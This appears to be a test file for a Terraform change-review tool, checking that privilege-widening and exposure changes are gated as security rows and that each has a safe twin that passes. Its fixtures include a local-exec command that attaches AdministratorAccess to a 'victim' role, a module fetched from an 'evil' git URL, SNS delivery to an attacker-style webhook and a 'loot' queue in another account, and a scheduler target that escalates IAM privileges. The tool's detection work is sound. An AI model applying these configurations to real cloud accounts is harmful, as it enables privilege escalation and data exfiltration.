import { rmSync } from "node:fs";
import { buildReview } from "../../scripts/review/build-review";
import { gateItems, renderReport } from "../../scripts/review/render";
import type { Annotation, SynthOutput, TerraformJson } from "../../scripts/review/synth-output";
import { runReview, section, writeOutput } from "./review-fixtures";

/**
 * What the guardrails cannot read, and attribute changes that decide who a resource acts as, who
 * applies it, where its data goes or whether drift is reverted, are security rows of the review
 * (gated, never cut by --max-chars), not attribute rows cut first. On dev output too, where the rule
 * pack only warns about them. Hand-written Terraform JSON, as Terraform reads it; each failing case
 * has a safe twin that passes.
 */

type Json = Record<string, any>;
const ADMIN = JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] });
const READ = JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "s3:GetObject", Resource: "arn:aws:s3:::b/*" }] });
const TRUST = JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "sts:AssumeRole", Principal: { Service: "lambda.amazonaws.com" } }] });
const OTHER_ROLE = "arn:aws:iam::999999999999:role/OrganizationAccountAccessRole";
const EXEC = [{ "local-exec": { command: "aws iam attach-role-policy --role-name victim --policy-arn arn:aws:iam::aws:policy/AdministratorAccess" } }];

/** A dev service stack: a function with its role and policy, a topic, a queue, a schedule, an event target and a Cloud Run service. */
function service(): Json {
  return {
    provider: { aws: [{ region: "eu-west-1", allowed_account_ids: ["111111111111"] }] },
    resource: {
      aws_iam_role: { R: { name: "r", assume_role_policy: TRUST }, Other: { name: "other", assume_role_policy: TRUST } },
      aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: READ } },
      aws_lambda_function: { F: { function_name: "f", role: "${aws_iam_role.R.arn}", memory_size: 128 } },
      aws_cloudwatch_log_group: { L: { name: "/aws/lambda/f" } },
      aws_sns_topic: { T: { name: "t" } },
      aws_sqs_queue: { Q: { name: "q" } },
      aws_sns_topic_subscription: { S: { topic_arn: "${aws_sns_topic.T.arn}", protocol: "sqs", endpoint: "${aws_sqs_queue.Q.arn}" } },
      aws_scheduler_schedule: {
        Nightly: { name: "nightly", schedule_expression: "cron(0 3 * * ? *)", flexible_time_window: { mode: "OFF" }, target: { arn: "${aws_lambda_function.F.arn}", role_arn: "${aws_iam_role.R.arn}" } },
      },
      aws_cloudwatch_event_rule: { E: { name: "e", event_pattern: "{}" } },
      aws_cloudwatch_event_target: { E: { rule: "${aws_cloudwatch_event_rule.E.name}", arn: "${aws_sqs_queue.Q.arn}" } },
      google_service_account: { Run: { account_id: "run" } },
      google_cloud_run_v2_service: { S: { name: "s", location: "europe-west1", template: { service_account: "${google_service_account.Run.email}", containers: [{ image: "x:1" }] } } },
    },
  };
}

function output(config: Json, annotations: readonly Annotation[] = []): SynthOutput {
  return { label: "test", stacks: new Map([["svc-dev", { name: "svc-dev", config: config as TerraformJson, annotations }]]) };
}

/** The rule pack's warnings on dev for what it cannot verify: they must not be all the review says. */
const warn = (message: string): Annotation => ({ level: "@cdktf/warn", constructPath: "svc-dev", message: `[unverifiable-configuration] ${message}` });

const change = (edit: (s: Json) => void) => {
  const s = service();
  edit(s);
  return s;
};

interface Case {
  /** The change that widens, made to the base. */
  readonly bad: (s: Json) => void;
  /** Its safe twin: the same kind of change that widens nothing, or the same block unchanged. */
  readonly twin: (s: Json) => void;
  /** The twin's base, when the twin is "the same block on both sides". */
  readonly twinBase?: (s: Json) => void;
  /** The security table the row must be in. */
  readonly table: string;
  readonly kind: "broadening" | "may-broaden";
  /** Text the gate's line must name. */
  readonly names: string;
}

const same = (edit: (s: Json) => void) => ({ twin: edit, twinBase: edit });

const CASES: Record<string, Case> = {
  // What the guardrails cannot read (on dev the rule pack only warns).
  "a type the catalog does not know (SSO permission set inline admin policy)": {
    bad: (s) => (s.resource.aws_ssoadmin_permission_set_inline_policy = { Sso: { instance_arn: "arn:aws:sso:::instance/ssoins-1", permission_set_arn: "arn:aws:sso:::permissionSet/ssoins-1/ps-1", inline_policy: ADMIN } }),
    ...same((s) => (s.resource.aws_ssoadmin_permission_set_inline_policy = { Sso: { instance_arn: "arn:aws:sso:::instance/ssoins-1", permission_set_arn: "arn:aws:sso:::permissionSet/ssoins-1/ps-1", inline_policy: ADMIN } })),
    table: "Cannot verify",
    kind: "may-broaden",
    names: "aws_ssoadmin_permission_set_inline_policy",
  },
  "a public AMI launch permission": {
    bad: (s) => (s.resource.aws_ami_launch_permission = { Ami: { image_id: "ami-12345678", group: "all" } }),
    ...same((s) => (s.resource.aws_ami_launch_permission = { Ami: { image_id: "ami-12345678", group: "all" } })),
    table: "Public exposure",
    kind: "broadening",
    names: "aws_ami_launch_permission.Ami",
  },
  "a DB snapshot shared with all": {
    bad: (s) => (s.resource.aws_db_snapshot = { Snap: { db_instance_identifier: "db1", db_snapshot_identifier: "snap1", shared_accounts: ["all"] } }),
    ...same((s) => (s.resource.aws_db_snapshot = { Snap: { db_instance_identifier: "db1", db_snapshot_identifier: "snap1", shared_accounts: ["all"] } })),
    table: "Public exposure",
    kind: "broadening",
    names: "aws_db_snapshot.Snap",
  },
  "a local module": {
    bad: (s) => (s.module = { Mod: { source: "./mod", role_name: "${aws_iam_role.R.name}" } }),
    ...same((s) => (s.module = { Mod: { source: "./mod", role_name: "${aws_iam_role.R.name}" } })),
    table: "Cannot verify",
    kind: "may-broaden",
    names: "module.Mod",
  },
  "a registry module": {
    bad: (s) => (s.module = { Mod: { source: "terraform-aws-modules/iam/aws//modules/iam-policy", version: "5.48.0", name: "x", policy: "{}" } }),
    twin: (s) => (s.module = { Mod: { source: "terraform-aws-modules/iam/aws//modules/iam-policy", version: "5.48.0", name: "x", policy: "{}" } }),
    twinBase: (s) => (s.module = { Mod: { source: "terraform-aws-modules/iam/aws//modules/iam-policy", version: "5.48.0", name: "x", policy: "{}" } }),
    table: "Cannot verify",
    kind: "may-broaden",
    names: "terraform-aws-modules/iam/aws",
  },
  "a module written as a raw override": {
    bad: (s) => (s.module = { m: { source: "git::https://example.com/evil.git", role_name: "${aws_iam_role.R.name}" } }),
    ...same((s) => (s.module = { m: { source: "git::https://example.com/evil.git", role_name: "${aws_iam_role.R.name}" } })),
    table: "Cannot verify",
    kind: "may-broaden",
    names: "module.m",
  },
  "terraform_data with local-exec": {
    bad: (s) => (s.resource.terraform_data = { x: { provisioner: EXEC } }),
    ...same((s) => (s.resource.terraform_data = { x: { provisioner: EXEC } })),
    table: "Cannot verify",
    kind: "may-broaden",
    names: "local-exec",
  },
  "null_resource with local-exec": {
    bad: (s) => (s.resource.null_resource = { x: { provisioner: EXEC } }),
    ...same((s) => (s.resource.null_resource = { x: { provisioner: EXEC } })),
    table: "Cannot verify",
    kind: "may-broaden",
    names: "null_resource.x",
  },
  "a provisioner on a known resource": {
    bad: (s) => (s.resource.aws_lambda_function.F.provisioner = EXEC),
    twin: (s) => (s.resource.aws_lambda_function.F.memory_size = 256),
    table: "Cannot verify",
    kind: "may-broaden",
    names: "local-exec",
  },
  // Who applies the stack, and where.
  "the provider assumes another account's role": {
    bad: (s) => (s.provider.aws[0].assume_role = [{ role_arn: OTHER_ROLE }]),
    twin: (s) => (s.provider.aws[0].default_tags = [{ tags: { team: "svc" } }]),
    table: "Where resources apply (providers)",
    kind: "broadening",
    names: OTHER_ROLE,
  },
  "the provider's allowed_account_ids changes": {
    bad: (s) => (s.provider.aws[0].allowed_account_ids = ["999999999999"]),
    twin: (s) => (s.provider.aws[0].max_retries = 5),
    table: "Where resources apply (providers)",
    kind: "broadening",
    names: "999999999999",
  },
  "the provider's region changes": {
    bad: (s) => (s.provider.aws[0].region = "us-east-1"),
    twin: (s) => (s.provider.aws[0].default_tags = [{ tags: { team: "svc" } }]),
    table: "Where resources apply (providers)",
    kind: "broadening",
    names: "us-east-1",
  },
  "a second provider (alias) appears": {
    bad: (s) => s.provider.aws.push({ alias: "other", region: "us-east-1", assume_role: [{ role_arn: OTHER_ROLE }] }),
    ...same((s) => s.provider.aws.push({ alias: "other", region: "us-east-1", assume_role: [{ role_arn: OTHER_ROLE }] })),
    table: "Where resources apply (providers)",
    kind: "broadening",
    names: "aws.other",
  },
  "a resource switched to another provider, which says the account and role it now applies in": {
    bad: (s) => {
      s.provider.aws.push({ alias: "other", region: "us-east-1", assume_role: [{ role_arn: OTHER_ROLE }] });
      s.resource.aws_iam_role_policy.P.provider = "aws.other";
    },
    twin: (s) => {
      s.provider.aws.push({ alias: "other", region: "us-east-1", assume_role: [{ role_arn: OTHER_ROLE }] });
      s.resource.aws_iam_role_policy.P.provider = "aws.other";
      s.resource.aws_iam_role_policy.P.name = "renamed";
    },
    twinBase: (s) => {
      s.provider.aws.push({ alias: "other", region: "us-east-1", assume_role: [{ role_arn: OTHER_ROLE }] });
      s.resource.aws_iam_role_policy.P.provider = "aws.other";
    },
    table: "Where resources apply (providers)",
    kind: "broadening",
    names: `aws_iam_role_policy.P> applies through aws.other\` | \`assume_role = [{"role_arn":"${OTHER_ROLE}"}]`,
  },
  // Drift and state.
  "lifecycle.ignore_changes on a policy": {
    bad: (s) => (s.resource.aws_iam_role_policy.P.lifecycle = { ignore_changes: ["policy"] }),
    twin: (s) => (s.resource.aws_lambda_function.F.lifecycle = { ignore_changes: ["memory_size"] }),
    table: "State and drift",
    kind: "broadening",
    names: "ignore_changes = policy",
  },
  'lifecycle.ignore_changes "all" on a role': {
    bad: (s) => (s.resource.aws_iam_role.R.lifecycle = { ignore_changes: "all" }),
    twin: (s) => (s.resource.aws_cloudwatch_log_group.L.lifecycle = { ignore_changes: "all" }),
    table: "State and drift",
    kind: "broadening",
    names: "ignore_changes = all",
  },
  "a removed block": {
    bad: (s) => (s.removed = [{ from: "aws_iam_role_policy.deny_guard", lifecycle: { destroy: false } }]),
    ...same((s) => (s.removed = [{ from: "aws_iam_role_policy.deny_guard", lifecycle: { destroy: false } }])),
    table: "State and drift",
    kind: "may-broaden",
    names: "removed aws_iam_role_policy.deny_guard",
  },
  "an import block": {
    bad: (s) => (s.import = [{ to: "aws_iam_role_policy.P", id: "victim:admin" }]),
    ...same((s) => (s.import = [{ to: "aws_iam_role_policy.P", id: "victim:admin" }])),
    table: "State and drift",
    kind: "may-broaden",
    names: "import victim:admin as aws_iam_role_policy.P",
  },
  "a moved block from an address base does not declare (the twin: a rename of a resource of base)": {
    bad: (s) => (s.moved = [{ from: "aws_iam_role_policy.old", to: "aws_iam_role_policy.P" }]),
    twin: (s) => {
      s.resource.aws_iam_role_policy = { Renamed: s.resource.aws_iam_role_policy.P };
      s.moved = [{ from: "aws_iam_role_policy.P", to: "aws_iam_role_policy.Renamed" }];
    },
    table: "State and drift",
    kind: "may-broaden",
    names: "moved aws_iam_role_policy.old -> aws_iam_role_policy.P",
  },
  // Where data goes.
  "an SNS subscription to an https endpoint": {
    bad: (s) => (s.resource.aws_sns_topic_subscription.S = { topic_arn: "${aws_sns_topic.T.arn}", protocol: "https", endpoint: "https://evil.example.com/hook" }),
    twin: (s) => (s.resource.aws_sns_topic_subscription.S.raw_message_delivery = true),
    table: "Data leaving the stack",
    kind: "broadening",
    names: "https://evil.example.com/hook",
  },
  "an SNS subscription to an e-mail address": {
    bad: (s) => (s.resource.aws_sns_topic_subscription.Mail = { topic_arn: "${aws_sns_topic.T.arn}", protocol: "email", endpoint: "someone@example.com" }),
    twin: (s) => (s.resource.aws_sns_topic_subscription.Own = { topic_arn: "${aws_sns_topic.T.arn}", protocol: "sqs", endpoint: "${aws_sqs_queue.Q.arn}" }),
    table: "Data leaving the stack",
    kind: "broadening",
    names: "someone@example.com",
  },
  "an SNS subscription to another account's queue": {
    bad: (s) => (s.resource.aws_sns_topic_subscription.S.endpoint = "arn:aws:sqs:eu-west-1:999999999999:loot"),
    twin: (s) => (s.resource.aws_sns_topic_subscription.S.filter_policy = JSON.stringify({ kind: ["a"] })),
    table: "Data leaving the stack",
    kind: "broadening",
    names: "999999999999:loot",
  },
  "an event target sending to another account's bus": {
    bad: (s) => (s.resource.aws_cloudwatch_event_target.E.arn = "arn:aws:events:eu-west-1:999999999999:event-bus/default"),
    twin: (s) => (s.resource.aws_cloudwatch_event_target.E.input = JSON.stringify({ source: "nightly" })),
    table: "Data leaving the stack",
    kind: "broadening",
    names: "999999999999:event-bus/default",
  },
  // Who a resource acts as.
  "a schedule's role switched to another account's role": {
    bad: (s) => (s.resource.aws_scheduler_schedule.Nightly.target.role_arn = OTHER_ROLE),
    twin: (s) => (s.resource.aws_scheduler_schedule.Nightly.schedule_expression = "cron(0 4 * * ? *)"),
    table: "IAM policy attachments",
    kind: "broadening",
    names: OTHER_ROLE,
  },
  "a schedule with a universal target (any AWS API, as its role)": {
    bad: (s) => (s.resource.aws_scheduler_schedule.Nightly.target = { arn: "arn:aws:scheduler:::aws-sdk:iam:attachRolePolicy", role_arn: "${aws_iam_role.R.arn}", input: JSON.stringify({ RoleName: "r", PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }) }),
    twin: (s) => (s.resource.aws_scheduler_schedule.Nightly.description = "nightly run"),
    table: "IAM policy attachments",
    kind: "broadening",
    names: "aws-sdk:iam:attachRolePolicy",
  },
  "an event target given a role": {
    bad: (s) => (s.resource.aws_cloudwatch_event_target.E.role_arn = "${aws_iam_role.Other.arn}"),
    twin: (s) => (s.resource.aws_cloudwatch_event_target.E.target_id = "queue"),
    table: "IAM policy attachments",
    kind: "broadening",
    names: "aws_iam_role.Other",
  },
  "a Cloud Run v2 service switched to another service account": {
    bad: (s) => (s.resource.google_cloud_run_v2_service.S.template.service_account = "admin@project.iam.gserviceaccount.com"),
    twin: (s) => (s.resource.google_cloud_run_v2_service.S.template.containers[0].image = "x:2"),
    table: "IAM policy attachments",
    kind: "broadening",
    names: "admin@project.iam.gserviceaccount.com",
  },
};

const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

describe.each(Object.entries(CASES))("%s", (_name, c) => {
  it("Noncompliance: a gated row of its security table, kept whole by --max-chars", () => {
    const review = buildReview(output(service()), output(change(c.bad), [warn("what this case adds")]));
    const items = gateItems(review);
    expect(items.length).toBeGreaterThan(0);
    expect(items.some((i) => i.kind === c.kind && i.text.startsWith(`${c.table}: `) && i.text.includes(c.names))).toBe(true);
    const { markdown } = renderReport(review, { maxChars: 2000 });
    const security = section(markdown, "## Security changes");
    for (const item of items) expect(security).toContain(`\`${item.id}\``);
    expect(markdown).not.toContain("No change broadens permissions or exposure");
  });

  it("Compliance: its safe twin passes the gate", () => {
    const base = c.twinBase ? change(c.twinBase) : service();
    expect(gateItems(buildReview(output(base), output(change(c.twin))))).toEqual([]);
  });
});

describe("--fail-on broadening and --max-chars on these rows", () => {
  const bulky = (s: Json, memory: number) => {
    // Bulk that is no security change: 60 log groups whose retention changes.
    s.resource.aws_cloudwatch_log_group = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`G${i}`, { name: `/aws/lambda/g${i}`, retention_in_days: memory }]));
  };
  const write = (config: Json) => {
    const dir = writeOutput({ "svc-dev": config });
    dirs.push(dir);
    return dir;
  };

  it("Noncompliance: a provider pointed at another account, cut to fit: the row stays, the gate trips, the footer is honest", () => {
    const base = write(change((s) => bulky(s, 7)));
    const head = write(change((s) => { bulky(s, 14); s.provider.aws[0].assume_role = [{ role_arn: OTHER_ROLE }]; }));
    const full = runReview(["--base", base, "--head", head, "--max-chars", "0"]).stdout;
    const max = full.length - section(full, "## Attribute changes").length + 400;
    const cut = runReview(["--base", base, "--head", head, "--max-chars", String(max), "--fail-on", "broadening"]);
    expect(cut.status).toBe(1);
    expect(cut.stdout).not.toContain("## Attribute changes");
    expect(section(cut.stdout, "## Security changes")).toBe(section(full, "## Security changes"));
    expect(section(cut.stdout, "### Where resources apply (providers)")).toContain(OTHER_ROLE);
    expect(cut.stdout).toContain("The security rows are all here.");
    expect(cut.stderr).toMatch(/broadening: Where resources apply \(providers\): .*OrganizationAccountAccessRole/);
  });

  it("Compliance: acknowledged by its id, the same change passes", () => {
    const base = write(service());
    const head = write(change((s) => (s.provider.aws[0].assume_role = [{ role_arn: OTHER_ROLE }])));
    const first = runReview(["--base", base, "--head", head, "--fail-on", "broadening"]);
    const ids = [...first.stdout.matchAll(/(?:⚠️ broadening|❓ may broaden) `([0-9a-f]{10})`/g)].map((m) => m[1]);
    expect(first.status).toBe(1);
    expect(ids.length).toBeGreaterThan(0);
    expect(runReview(["--base", base, "--head", head, "--fail-on", "broadening", ...ids.flatMap((id) => ["--acknowledge", id])]).status).toBe(0);
  });
});
